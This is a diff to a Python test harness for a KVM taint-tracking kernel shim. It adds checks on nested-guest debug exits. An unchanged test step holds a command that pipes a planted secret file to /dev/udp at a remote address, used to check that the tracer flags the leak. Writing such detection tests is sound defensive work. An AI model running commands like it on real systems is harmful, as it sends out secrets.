@@ -24,7 +24,11 @@ DEVICE = "/dev/kvmtaint_shim"
 MODULE = "/job/modules/kvmtaint_shim.ko"
 NO_SHIM, SHIM_VERSION, SHIM_BUSY, USAGE = 23, 24, 26, 2
 VMM_EXITS = "/sys/kernel/tracing/events/kvm/kvm_userspace_exit"
+EXITS_OF_ALL = "/sys/kernel/tracing/events/kvm/kvm_exit"
+SVM_EXIT_DB = 65  # #DB, of the exceptions from 64 on
 TRAPS = 1  # KT_COUNT_TRAPS
+KVM_EXIT_HLT = 5
+NESTED_CALLS = 10000
 
 # Operation of `marked` -> exits of one call with the four default hooks.
 EXITS = {"getpid": 0, "open-close": 0, "epoll": 0, "read": 1, "write": 1, "pipe": 2,
@@ -134,6 +138,35 @@ def look_at_both(tracer):
     ended("second-vm-disarmed", tracer)
 
 
+def debug_exits():
+    """#DB exits since the trigger was set, whoever they were of."""
+    return sum(map(int, re.findall(rf"exit_reason: +{SVM_EXIT_DB} .*hitcount: +(\d+)", read(f"{EXITS_OF_ALL}/hist"))))
+
+
+def nested(address, calls):
+    """A guest of the guest calls a function at this address; what it says, and #DB exits meanwhile."""
+    before = debug_exits()
+    return guest(f"nested {address} {calls}", 120).strip(), debug_exits() - before
+
+
+def check_nested(tracer):
+    """A guest of the guest at the very addresses: it is none of ours."""
+    write(f"{EXITS_OF_ALL}/trigger", "hist:keys=exit_reason")
+    before = debug_exits()
+    check_count("exits-of-no-nested-guest", "read", 0)
+    say("debug-exits-are-seen", debug_exits() - before >= EXITS["read"] * CALLS, f"{debug_exits() - before}")
+    for hook in records(tracer)[0]["hooks"]:
+        found = []
+        for _ in range(3):
+            said, exits = nested(hook["address"], NESTED_CALLS)
+            found.append(exits - nested(hook["address"], 1)[1])
+            if not found[-1]:
+                break
+        say(f"nested-{hook['name']}", said == f"exit {KVM_EXIT_HLT}, calls {NESTED_CALLS}" and not found[-1],
+            f"'{said}', {found} exits more than of one call")
+    write(f"{EXITS_OF_ALL}/trigger", "!hist:keys=exit_reason")
+
+
 def check_flow(tracer):
     guest("bash -c 'cat /srv/secret/a >/dev/udp/10.9.0.1/9000'")
     found = wait_for(lambda: any(r["type"] == "leak" for r in records(tracer)), 10)
@@ -177,6 +210,8 @@ def main():
     guest("mkdir -p /srv/secret; echo x >/srv/secret/a")
     # A kernel patches its text itself, at the first use of this and that.
     warm_up()
+    said = guest("modprobe kvm_amd; nested ffffffff80000000 1")
+    say("guest-makes-vms", "calls 1" in said, said)
     steps = guest("steps 200")
     text = Text()
 
@@ -200,6 +235,7 @@ def main():
         f"{steps.strip()} before, {guest('steps 200').strip()} while armed")
     check_counts()
     check_cpus()
+    check_nested(tracer)
     check_flow(tracer)
     check_two_vms()
 
